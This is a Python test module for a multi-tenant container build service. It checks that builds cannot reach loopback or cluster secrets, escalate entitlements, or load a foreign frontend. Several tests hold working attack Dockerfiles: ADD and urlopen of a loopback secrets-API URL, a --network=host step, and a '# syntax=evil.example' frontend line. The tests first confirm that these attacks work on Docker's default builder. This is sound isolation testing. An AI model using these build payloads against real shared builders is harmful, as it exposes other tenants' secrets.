"""What a build cannot reach. Each attack is tried on the engine's own builder too, where it succeeds."""

import asyncio
import contextlib
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from tests.buildkit import shared
from tests.component.builder.conftest import DEBIAN, Yard, docker, tar_of

CROWN = "the-secret-of-another-tenant"


@dataclass
class Listener:
    """An HTTP server on loopback, as the API's plain port is."""

    port: int = 0
    requests: list[str] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/api/v1/namespaces/sec-b/secrets/crown-{uuid.uuid4().hex}"


@pytest.fixture
async def listener() -> AsyncIterator[Listener]:
    listener = Listener()

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(asyncio.IncompleteReadError, ConnectionError):
            listener.requests.append((await reader.readuntil(b"\r\n\r\n")).decode(errors="replace"))
            writer.write(
                f"HTTP/1.1 200 OK\r\nContent-Length: {len(CROWN)}\r\nConnection: close\r\n\r\n{CROWN}".encode()
            )
            await writer.drain()
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    listener.port = server.sockets[0].getsockname()[1]
    yield listener
    server.close()


async def on_the_engines_own_builder(folder: Path, *arguments: str, dockerfile: str = "") -> str:
    """Output of a build as it ran before builds had a daemon of their own."""
    if dockerfile:
        (folder / "Dockerfile").write_text(dockerfile)
    process = await asyncio.create_subprocess_exec(
        "docker", "buildx", "build", "--builder=default", "--progress=plain", "--output=type=cacheonly", *arguments,
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT,
    )  # fmt: skip
    return (await process.communicate())[0].decode(errors="replace")


async def failed(yard: Yard, name: str) -> str:
    """All that a user sees of a build that failed."""
    ended = await yard.over(name)
    assert ended.phase == "Failed", ended
    return f"{ended.reason} {ended.message}\n" + "\n".join(await yard.log(name))


async def test_a_download_in_a_dockerfile_does_not_reach_this_machines_loopback(
    yard: Yard, listener: Listener, tmp_path: Path
) -> None:
    text = f"FROM {DEBIAN}\nADD {listener.url} /leak.json\nRUN cat /leak.json\n"
    assert CROWN in await on_the_engines_own_builder(tmp_path, str(tmp_path), dockerfile=text)
    assert listener.requests
    listener.requests.clear()
    yard.start()
    await yard.submit("reads", tar_of({"Dockerfile": text}))
    assert CROWN not in await failed(yard, "reads")
    assert not listener.requests


async def test_a_repository_does_not_reach_this_machines_loopback(
    yard: Yard, listener: Listener, tmp_path: Path
) -> None:
    """Admission refuses such addresses; here they come past it."""
    context = f"{listener.url}/x.git"
    await on_the_engines_own_builder(tmp_path, context)
    assert listener.requests
    listener.requests.clear()
    yard.start()
    for number, url in enumerate((context, f"{listener.url}?x=.git", f"git://127.0.0.1:{listener.port}/x")):
        await yard.submit(f"reads{number}", source={"git": {"url": url}})
        assert CROWN not in await failed(yard, f"reads{number}")
    assert not listener.requests


async def test_a_step_does_not_reach_this_machines_loopback(yard: Yard, listener: Listener, tmp_path: Path) -> None:
    """Not even one that asks for this machine's network, which the engine's own builder grants when asked."""
    read = (
        f'RUN {{flag}} python -c "import urllib.request as u; print(u.urlopen({listener.url!r}, timeout=3).read())"\n'
    )
    text = f"FROM {DEBIAN}\n" + read
    theirs = text.format(flag="--network=host")
    assert CROWN in await on_the_engines_own_builder(tmp_path, "--allow=network.host", str(tmp_path), dockerfile=theirs)
    assert listener.requests
    listener.requests.clear()
    yard.start()
    for name, flag in (("plain", ""), ("network", "--network=host")):
        await yard.submit(name, tar_of({"Dockerfile": text.format(flag=flag)}))
        assert CROWN not in await failed(yard, name)
    assert not listener.requests


@pytest.mark.parametrize("flag", ["--security=insecure", "--device=vendor.example/x=y"])
async def test_entitlements_are_not_granted(yard: Yard, flag: str) -> None:
    yard.start()
    await yard.submit("more", tar_of({"Dockerfile": f"FROM {DEBIAN}\nRUN {flag} true\n"}))
    await failed(yard, "more")


async def test_a_step_sees_neither_the_daemon_nor_its_files(yard: Yard) -> None:
    """Its socket, its state and its processes are outside; capabilities and seccomp are those of a container."""
    look = (
        "import glob, os, socket\n"
        "status = dict(line.split(':', 1) for line in open('/proc/self/status'))\n"
        "assert status['Seccomp'].strip() == '2', status['Seccomp']\n"
        "assert not int(status['CapEff'], 16) & 1 << 21, 'CAP_SYS_ADMIN'\n"
        "assert open('/proc/self/uid_map').read().split()[1] != '0', 'root is root'\n"
        "assert not glob.glob('/run/user/*/buildkit/*') and not os.path.exists('/home/user')\n"
        "names = [open(f'/proc/{pid}/comm').read().strip() for pid in os.listdir('/proc') if pid.isdigit()]\n"
        "assert 'buildkitd' not in names, names\n"
        "listening = [line.split()[1] for table in ('tcp', 'tcp6') for line in open(f'/proc/net/{table}')\n"
        "             if line.split()[3] == '0A']\n"
        "own = [address for address in listening if not address.startswith('0B00007F')]\n"
        "assert not own, own\n"
        "abstract = [line.split()[-1] for line in open('/proc/net/unix') if '@' in line]\n"
        "assert not abstract, abstract\n"
    )
    yard.start()
    archive = tar_of({"Dockerfile": f"FROM {DEBIAN}\nCOPY look.py /\nRUN python /look.py\n", "look.py": look})
    await yard.submit("looks", archive)
    ended = await yard.over("looks")
    assert ended.phase == "Succeeded", "\n".join(await yard.log("looks"))


async def test_another_frontend_is_not_run(yard: Yard) -> None:
    """The usual line is left out; forms that only BuildKit understands are refused by the daemon."""
    yard.start()
    usual = f"# syntax=evil.example/frontend:1\n# escape=`\nFROM `\n  {DEBIAN}\nLABEL said=builtin\n"
    await yard.submit("usual", tar_of({"Dockerfile": usual, "other": "x"}))
    ended = await yard.over("usual")
    assert ended.phase == "Succeeded", ended
    for number, first in enumerate(("// syntax=python:3.13-slim", '{"syntax": "python:3.13-slim"}')):
        await yard.submit(f"odd{number}", tar_of({"Dockerfile": f"{first}\nFROM {DEBIAN}\n"}))
        assert "Failed" in (await yard.over(f"odd{number}")).phase


def test_the_daemon_has_resource_limits_and_no_privileges() -> None:
    shared()
    template = (
        "{{.HostConfig.Privileged}} {{.HostConfig.Memory}} {{.HostConfig.PidsLimit}} {{.HostConfig.PortBindings}}"
    )
    values = docker("inspect", f"--format={template} {{{{.Config.User}}}}", "knoll-test-buildkit").stdout.split()
    assert values[0] == "false"
    assert int(values[1]) == 4 * 1024**3
    assert int(values[2]) == 4096
    assert values[3] == "map[]"
    assert values[4] == "1000:1000"


async def test_a_build_fails_with_a_reason_when_the_daemon_does_not_answer(yard: Yard, tmp_path: Path) -> None:
    yard.environment = {**yard.environment, "KNOLL_BUILDKIT_SOCKET": str(tmp_path / "none.sock"),
                        "KNOLL_BUILD_TIMEOUT_SECONDS": "2"}  # fmt: skip
    yard.start()
    await yard.submit("waits", tar_of({"Dockerfile": f"FROM {DEBIAN}\n"}))
    ended = await yard.over("waits")
    assert (ended.phase, ended.reason) == ("Failed", "TimedOut")


def test_the_daemon_is_not_root_on_this_machine() -> None:
    shared()
    lines = [line.split() for line in docker("top", "knoll-test-buildkit", "-eo", "pid,user,args").stdout.splitlines()]
    assert len(lines) > 2
    assert "root" not in {line[1] for line in lines[1:]}
